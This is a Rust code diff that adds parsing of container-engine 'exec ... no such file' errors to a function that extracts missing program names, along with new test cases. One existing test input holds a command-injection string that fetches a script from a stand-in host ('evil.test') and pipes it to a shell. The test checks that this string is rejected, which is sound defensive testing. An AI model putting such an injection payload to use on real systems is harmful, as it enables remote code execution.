@@ -21,7 +21,11 @@ pub(crate) fn program_in(line: &str) -> Option<&str> {
         let (_, rest) = line.split_once("] exec ")?;
         Some(rest.split_once(" failed: No such file or directory")?.0)
     };
-    let name = of_shell.or_else(of_init)?;
+    let of_engine = || {
+        let (name, rest) = line.split_once("exec: \"")?.1.split_once('"')?;
+        contains(rest, &["no such file"]).then_some(name)
+    };
+    let name = of_shell.or_else(of_init).or_else(of_engine)?;
     (!name.is_empty() && is_plain(name)).then_some(name)
 }
 
@@ -78,6 +82,10 @@ mod tests {
             (
                 "[FATAL tini (7)] exec slepp failed: No such file or directory",
                 Some("slepp"),
+            ),
+            (
+                "exec: \"./strat.sh\": stat ./strat.sh: no such file or directory: unknown",
+                Some("./strat.sh"),
             ),
             ("GET /x: 404: page not found", None),
             ("sh: x;curl${IFS}evil.test|sh: not found", None),
